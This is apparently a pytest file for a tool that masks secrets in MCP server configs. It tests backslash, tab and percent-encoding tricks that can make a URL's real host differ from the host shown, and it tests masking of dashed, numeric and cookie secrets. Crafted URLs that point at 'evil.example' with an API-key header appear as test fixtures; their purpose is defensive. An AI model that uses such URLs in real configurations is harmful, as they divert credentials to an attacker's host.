"""URLs shown as the programs that get them read them, and secret values in the forms that were
shown raw.

* ``https://evil.example\\@mcp.linear.app/sse`` was shown ``https://••••@mcp.linear.app/sse``:
  masking read the URL with Python's ``urlsplit``, for which ``\\`` is a character, while a WHATWG
  parser (browsers, Node's ``new URL``, so mcp-remote) reads it as ``/``, so the host really is
  ``evil.example``, and the header expanded from ``${LINEAR_API_KEY}`` would go there. Now the URL is
  read as a WHATWG parser reads it, the real host stays in view, and the launch confirmation and
  the config's warnings name the server and that host. A remote server's ``url`` that toolsearch's
  own HTTP client (httpx) would send elsewhere than what is shown is refused.
* Masking re-assembled the URL (``sqlite:///x?password=secret`` became ``sqlite:/x?password=••••``);
  now only the secret spans of the text as written are replaced.
* ``--password -Xy9…`` (a value that starts with ``-``), JSON numbers and lists under secret keys
  (``--env '{"API_KEY": 123456789}'``) and each cookie of a ``Cookie`` header were shown, or not
  searched for in what a server sends back.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from conftest import run_cli, run_cli_process, write_json
from toolsearch.engine import constants as C
from toolsearch.engine import secrets
from toolsearch.engine.secrets import redact_url, scrub_data
from toolsearch.live.mcpconfig import mask_arguments, parse_config_data, secret_arguments

ROOT = Path(__file__).resolve().parent.parent
ECHO = ROOT / "tests" / "argv_echo_mcp_server.py"
MASK = C.SECRET_MASK
EVIL = "https://evil.example\\@mcp.linear.app/sse"
LINEAR = {"mcpServers": {"linear": {"command": "npx", "args": [
    "-y", "mcp-remote", EVIL, "--header", "Authorization: Bearer ${LINEAR_API_KEY}"]}}}


# --- item 1: the host a WHATWG parser connects to stays in view -------------------------------------

# (url, the host Node's `new URL` connects to; None: it refuses the URL), as Node 20 reads them
WHATWG_HOSTS = [
    (EVIL, "evil.example"),
    ("https://a@b@mcp.linear.app/sse", "mcp.linear.app"),
    ("https://mcp.linear.app\t.evil.example/", "mcp.linear.app.evil.example"),
    ("https://mcp%2elinear.app/", "mcp.linear.app"),
    ("https:\\\\u:pw@host/x", "host"),
    ("http:evil.example/x", "evil.example"),
    ("https:/\\evil.example\\x", "evil.example"),
    ("https://admin:p\\ss@host/", None),
    ("https://admin\\:secretpw@host", "admin"),
    ("HTTPS://U:P@Host:8080/x", "host"),
    ("ws://a\\@b", "a"),
    ("file://host\\x/y", "host"),
    ("redis://a\\@b/", "b"),  # not a special scheme: "\" is a character there too
    ("ht\ttps://evil\\@good/", "evil"),
]


@pytest.mark.parametrize(("url", "host"), WHATWG_HOSTS)
def test_urls_are_read_as_a_whatwg_parser_reads_them(url, host) -> None:
    reading = secrets.read_url(url)
    assert (None if reading.refused else reading.host) == host


def test_the_real_host_of_a_backslash_url_stays_in_view() -> None:
    # nothing before the "\" is a userinfo for a WHATWG parser: evil.example is the host
    assert redact_url(EVIL) == EVIL
    assert mask_arguments(["-y", "mcp-remote", EVIL]) == ["-y", "mcp-remote", EVIL]
    # the password a parser that keeps "\" as a character reads is still masked, the host in view
    assert redact_url("https://admin\\:secretpw@host/x") == f"https://admin\\:{MASK}@host/x"
    # a URL a WHATWG parser refuses is masked as the other parsers read it
    assert redact_url("https://admin:p\\ss@host/") == f"https://{MASK}@host/"
    assert redact_url("https:\\\\u:hunter2pw@host/x") == f"https:\\\\{MASK}@host/x"
    assert mask_arguments(["--url=https:\\\\u:hunter2pw@host/x"]) == [f"--url=https:\\\\{MASK}@host/x"]


def test_masking_replaces_only_the_secret_spans_of_the_text_as_written() -> None:
    for url, shown in [("sqlite:///x?password=secret", f"sqlite:///x?password={MASK}"),
                       ("HTTPS://U:Pw@Host:8080/x?", f"HTTPS://{MASK}@Host:8080/x?"),
                       ("https://h.example/a#", "https://h.example/a#"),
                       ("postgresql://u:pw@db//x?sslmode=require", f"postgresql://{MASK}@db//x?sslmode={MASK}"),
                       ("https://u:p@h\tx/?a=b\tc", f"https://{MASK}@h\tx/?a={MASK}")]:
        assert redact_url(url) == shown, url
        assert mask_arguments([url]) == [shown], url


def test_the_launch_confirmation_and_the_config_warnings_name_the_host() -> None:
    config = parse_config_data(LINEAR, "mcp.json", environ={"LINEAR_API_KEY": "lin_api_S3cretValue42"})
    (spec,) = config.servers
    assert spec.invalid is None
    preview = spec.launch_preview()
    assert preview["command_line"] == f"npx -y mcp-remote '{EVIL}' --header 'Authorization: {MASK}'"
    (warning,) = preview["warnings"]
    assert warning.startswith("server 'linear': args[2]: the URL has a '\\' before the end of its host")
    assert "connect to host 'evil.example'" in warning and "reads host 'mcp.linear.app'" in warning
    assert spec.launch_preview(expanded=False)["warnings"] == preview["warnings"]
    (line,) = config.warnings
    assert line.startswith("mcp.json: mcpServers.linear.args[2]: the URL has") and "'evil.example'" in line
    assert f"\n{line}\n" in (ROOT / "docs" / "security.md").read_text(encoding="utf-8")  # quoted as printed
    # plain URLs, a URL in a script argument and a tab inside an argument's URL
    assert secrets.ambiguous_url("https://mcp.linear.app/sse") is None and secrets.ambiguous_url("sqlite:///x") is None
    (script,) = parse_config_data({"mcpServers": {"s": {"command": "bash", "args": [
        "-c", f"npx mcp-remote {EVIL} --verbose", "https://mcp.linear.app\t.evil.example/sse"]}}}, "mcp.json").servers
    assert [w.split(": the URL has ")[0] for w in script.launch_preview()["warnings"]] == [
        "server 's': args[1]", "server 's': args[2]"]
    assert "'mcp.linear.app.evil.example'" in script.launch_preview()["warnings"][1]


def test_a_remote_url_that_toolsearch_would_send_elsewhere_than_shown_is_refused() -> None:
    evil, tab, percent, two_ats, plain = parse_config_data({"mcpServers": {
        "evil": {"url": EVIL, "headers": {"Authorization": "Bearer S3cretHeader42"}},
        "tab": {"url": "https://mcp.linear.app\t.evil.example/sse"},
        "percent": {"url": "https://mcp%2elinear.app/sse"},
        "two_ats": {"url": "https://me@corp.example:S3cretPw77@mcp.linear.app/sse"},
        "plain": {"url": "https://mcp.linear.app/sse"},
    }}, "mcp.json").servers
    assert evil.invalid == (
        "mcp.json: mcpServers.evil.url: the URL has a '\\' before the end of its host, which WHATWG parsers read "
        "as '/' and others as a character: browsers and Node's new URL (as Node MCP clients such as mcp-remote) "
        "connect to host 'evil.example', toolsearch's HTTP client to host 'mcp.linear.app'; not used, so nothing "
        "is sent: expected a URL that every client reads alike: its host as plain text, '/' (never '\\') after it, "
        "no tab or line break")
    assert "refuses it" in tab.invalid and "'mcp.linear.app.evil.example'" in tab.invalid
    assert "host 'mcp%2elinear.app'" in percent.invalid
    # two "@": every parser reads the same host, so it is used, with a word
    assert two_ats.invalid is None and plain.invalid is None
    (warning,) = two_ats.launch_preview()["warnings"]
    assert "more than one '@'" in warning and "'mcp.linear.app', as toolsearch's HTTP client does" in warning
    assert two_ats.launch_preview()["url"] == f"https://{MASK}@mcp.linear.app/sse"
    assert plain.launch_preview()["warnings"] == []
    for spec in (evil, two_ats):
        assert "S3cret" not in json.dumps(spec.redacted()) + json.dumps(spec.launch_preview()) + (spec.invalid or "")


def test_plan_says_it_on_stderr(tmp_path) -> None:
    config = write_json(tmp_path / "mcp.json", {"mcpServers": {"remote": {"url": EVIL}}})
    result = run_cli("plan", config)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "mcpServers.remote.url: the URL has a '\\' before the end of its host" in result.stderr, result.stderr
    assert "connect to host 'evil.example'" in result.stderr


def test_the_live_pages_launch_confirmation_shows_the_warning(tmp_path) -> None:
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "pages" / "live.py"), default_timeout=120)
    at.run()
    at.file_uploader(key="live_config_upload").set_value(("mcp.json", json.dumps(LINEAR).encode(), "application/json"))
    at.run()
    at.button(key="live_connect").click().run()  # shows the confirmation; nothing starts before Start
    assert not at.exception, at.exception
    assert any(EVIL in code.value for code in at.code)
    warnings = [str(w.value).replace("\\", "") for w in at.warning]  # the Markdown escapes left out
    assert any(w.startswith("server 'linear': args[2]: the URL has") and "host 'evil.example'" in w
               for w in warnings), warnings
    assert "live_connections" not in at.session_state


# --- item 2: values that start with "-", JSON numbers and lists -------------------------------------

DASHED = "-Xy9_S3cretDashValue"
NUMBER = "123456789"
BIG = "98765432109871"
LISTED = "ListS3cret-4f5e"


def test_a_secret_options_value_may_start_with_a_dash() -> None:
    args = ["--password", DASHED, "--api-key", "-k", "--token", "--verbose", "--secret", "--", "-u", "-m", "x"]
    assert mask_arguments(args) == ["--password", MASK, "--api-key", MASK, "--token", "--verbose", "--secret", "--",
                                    "-u", "-m", "x"]
    assert secret_arguments(args) == [DASHED, "-k"]


def test_json_numbers_and_lists_under_secret_keys_are_masked() -> None:
    args = ["--env", json.dumps({"API_KEY": int(NUMBER), "DEBUG": 1}),
            "--config", json.dumps({"password": int(BIG), "api_key": [LISTED, 55555555, True, None], "port": 8080,
                                    "secret": 1.50, "auth": True})]
    assert mask_arguments(args) == [
        "--env", f'{{"API_KEY": {MASK}, "DEBUG": 1}}',
        "--config", (f'{{"password": {MASK}, "api_key": ["{MASK}", {MASK}, true, null], "port": 8080, '
                     f'"secret": {MASK}, "auth": true}}')]
    found = secret_arguments(args)
    assert {NUMBER, BIG, LISTED, "55555555", "1.5"} <= set(found)
    assert not {"1", "8080", "true"} & set(found)


def test_a_server_echoing_them_is_masked(tmp_path) -> None:
    args = ["--password", DASHED, "--env", json.dumps({"API_KEY": int(NUMBER)}),
            "--config", json.dumps({"password": int(BIG), "api_key": [LISTED]})]
    (spec,) = parse_config_data({"mcpServers": {"e": {"command": "srv", "args": args}}}, "mcp.json").servers
    echoed = f"argv: {DASHED} {NUMBER} {BIG} {LISTED}"
    assert spec.scrub(echoed) == f"argv: {MASK} {MASK} {MASK} {MASK}"
    assert scrub_data({"default": int(NUMBER), "n": 5}, spec.scrub) == ({"default": MASK, "n": 5}, 1)


@pytest.mark.live
def test_describe_and_snapshot_never_show_what_the_server_echoes(tmp_path) -> None:
    args = [str(ECHO), "--password", DASHED, "--env", json.dumps({"API_KEY": int(NUMBER)}),
            "--config", json.dumps({"password": int(BIG), "api_key": [LISTED]}), "--header",
            "Cookie: sid=CookieS3cretOne; theme=CookieS3cretTwo"]
    config = write_json(tmp_path / "mcp.json", {"mcpServers": {"echo": {"command": sys.executable, "args": args}}})
    described = run_cli_process("describe", config, "mcp__echo__echo", "--json", "--timeout", "60")
    assert described.returncode == 0, described.stderr
    snapshot = tmp_path / "snap.json"
    saved = run_cli_process("snapshot", config, "-o", snapshot, "--timeout", "60")
    assert saved.returncode == 0, saved.stderr
    shown = described.stdout + described.stderr + saved.stdout + saved.stderr + snapshot.read_text(encoding="utf-8")
    for secret in (DASHED, NUMBER, BIG, LISTED, "CookieS3cret"):
        assert secret not in shown, secret
    assert "--password ••••" in json.loads(described.stdout)["tools"]["mcp__echo__echo"]["description"]


# --- item 3: each cookie of a cookie header -----------------------------------------------------------

def test_each_cookies_value_is_a_secret_on_its_own() -> None:
    header, option, line = parse_config_data({"mcpServers": {
        "h": {"url": "https://mcp.example/sse", "headers": {"Cookie": "a=CK1secretA; b=\"CK2secretB\"; c=xyz"}},
        "o": {"command": "srv", "args": ["--header", "Cookie: session=CK3secretC; lang=en-GB"]},
        "l": {"command": "srv", "args": ["Cookie: a=CK4secretD; b=CK5secretE"]},
    }}, "mcp.json").servers
    assert header.scrub("echo a=CK1secretA") == f"echo a={MASK}"
    assert header.scrub("b=CK2secretB.") == f"b={MASK}."
    assert option.scrub("session=CK3secretC") == f"session={MASK}"
    assert line.scrub("got a=CK4secretD") == f"got a={MASK}"
    assert {"CK1secretA", "CK2secretB", "CK3secretC", "CK4secretD", "CK5secretE"} <= {
        *header.own_secrets(), *option.own_secrets(), *line.own_secrets()}
    # a value under the minimum length is masked where it stands, not searched for in free text
    assert header.scrub("got xyz") == "got xyz"
